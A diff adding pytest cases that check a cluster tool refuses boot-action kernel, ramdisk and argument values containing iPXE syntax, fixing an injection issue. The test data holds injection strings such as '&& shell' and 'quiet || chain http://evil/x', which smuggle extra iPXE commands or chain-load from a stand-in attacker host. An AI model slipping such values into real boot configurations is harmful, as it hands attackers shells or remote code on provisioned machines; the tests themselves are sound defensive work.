@@ -147,3 +147,31 @@ def test_set_host_installaction_and_runaction(site: Any, tmp_path: Path) -> None
         "set", "host", "installaction", "vm-container-0-1", "action=install debian",
         says=f"boot action 'install debian': kernel {kernel} does not exist on this frontend",
     )  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "says"),
+    [
+        ("args", "console=ttyS0 && shell", "'&&' is iPXE syntax"),
+        ("args", "quiet || chain http://evil/x", "'||' is iPXE syntax"),
+        ("args", "quiet # rest ignored", "'#' is iPXE syntax"),
+        ("args", "x=${net0/ip}", "is iPXE syntax"),
+        ("args", "a;b", "';' is iPXE syntax"),
+        ("args", "quiet\nshell", "is iPXE syntax"),
+        ("kernel", "http://mirror/linux#x", "'#' is iPXE syntax"),
+        ("ramdisk", "http://mirror/initrd&&shell", "'&&' is iPXE syntax"),
+        ("kernel", "http://mirror/linux x", "has white space"),
+    ],
+)
+def test_boot_action_words_that_are_ipxe_syntax_are_refused(
+    site: Any, field: str, value: str, says: str
+) -> None:
+    """Issue 14: boot-action arguments reached the iPXE kernel line verbatim."""
+    kernel = [] if field == "kernel" else ["kernel=http://mirror/linux"]
+    site.refused("add", "bootaction", "action=evil", *kernel, f"{field}={value}", says=says)
+    site.refused("set", "bootaction", "action=install", f"{field}={value}", says=says)
+
+
+def test_boot_action_names_that_are_ipxe_syntax_are_refused(site: Any) -> None:
+    site.refused("add", "bootaction", "action=x && shell", "kernel=http://m/linux",
+                 says="boot action name 'x && shell'")  # fmt: skip
